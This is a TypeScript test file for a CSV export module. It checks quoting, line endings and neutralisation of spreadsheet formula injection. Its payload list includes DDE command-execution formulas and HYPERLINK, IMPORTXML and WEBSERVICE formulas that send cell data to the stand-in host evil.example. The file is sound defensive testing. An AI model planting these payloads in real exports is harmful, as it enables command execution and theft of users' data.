import { describe, expect, it } from 'vitest';
import { neutralise, quote, toCsv as toCsvOf } from '../src/csv.ts';

const COLUMNS = ['name', 'email', 'phone', 'message', 'createdAt'] as const;
const toCsv = (rows: Partial<Record<(typeof COLUMNS)[number], string>>[]) => toCsvOf(COLUMNS, rows);

const base = {
  name: 'Asha Rao',
  email: 'asha@example.com',
  phone: '+91 98765 00000',
  message: 'Hello',
  createdAt: '2025-01-02T03:04:05.000Z',
};

describe('toCsv', () => {
  it('starts with a BOM and the header row, and ends rows with CRLF', () => {
    const csv = toCsv([base]);
    expect(csv.startsWith('\uFEFFname,email,phone,message,createdAt\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')[1]).toBe(
      "Asha Rao,asha@example.com,'+91 98765 00000,Hello,2025-01-02T03:04:05.000Z",
    );
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    const csv = toCsv([{ ...base, message: 'Hi, "team"\nsecond line' }]);
    expect(csv).toContain('"Hi, ""team""\nsecond line"');
  });

  it('neutralises formula injection', () => {
    expect(neutralise('=HYPERLINK("x")')).toBe('\'=HYPERLINK("x")');
    expect(neutralise('+1')).toBe("'+1");
    expect(neutralise('-2')).toBe("'-2");
    expect(neutralise('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutralise('\t=1')).toBe("'\t=1");
    expect(neutralise('plain')).toBe('plain');
    const csv = toCsv([{ ...base, name: '=1+1', message: '=cmd|"/c calc"!A1' }]);
    expect(csv).toContain("'=1+1,");
    expect(csv).toContain('"\'=cmd|""/c calc""!A1"');
  });

  /** Known payloads (OWASP CSV injection, PayloadsAllTheThings) and separator variants. */
  const PAYLOADS = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "-2+3+cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\uFF1D1+1',
    'a;=1+1',
    'a,=1+1',
    'a; =1+1',
    'a;+1;-1;@x',
    'ok,fine;=2+2',
    'first line\n=1+1',
    'x;\t=1',
    '"quoted";=1',
  ];
  const TRIGGER = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

  it.each(PAYLOADS)('no formula can start anywhere in %j', (payload) => {
    const safe = neutralise(payload);
    expect(safe).not.toBe(payload);
    // Every piece a spreadsheet could make a cell of, or a line, starts harmlessly.
    for (const piece of safe.split(/[;,\n\r]/)) expect(piece.replace(/^ +/, '')).not.toMatch(TRIGGER);
    expect(TRIGGER.test(safe)).toBe(false);
    // Nothing but the inserted quotes changes.
    expect(safe.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
  });

  it('leaves harmless text alone', () => {
    for (const text of ['Hello', 'a;b', 'x, y', 'email@example.com', '1+1=2', 'cost: -5']) {
      expect(neutralise(text)).toBe(text);
    }
    expect(toCsv([{ ...base, message: 'a;=1+1' }])).toContain(",a;'=1+1,");
  });

  it('keeps non-ASCII text and handles an empty list', () => {
    expect(toCsv([{ ...base, name: 'ज्योति' }])).toContain('ज्योति');
    expect(toCsv([])).toBe('\uFEFFname,email,phone,message,createdAt\r\n');
    expect(quote('a"b')).toBe('"a""b"');
  });
});
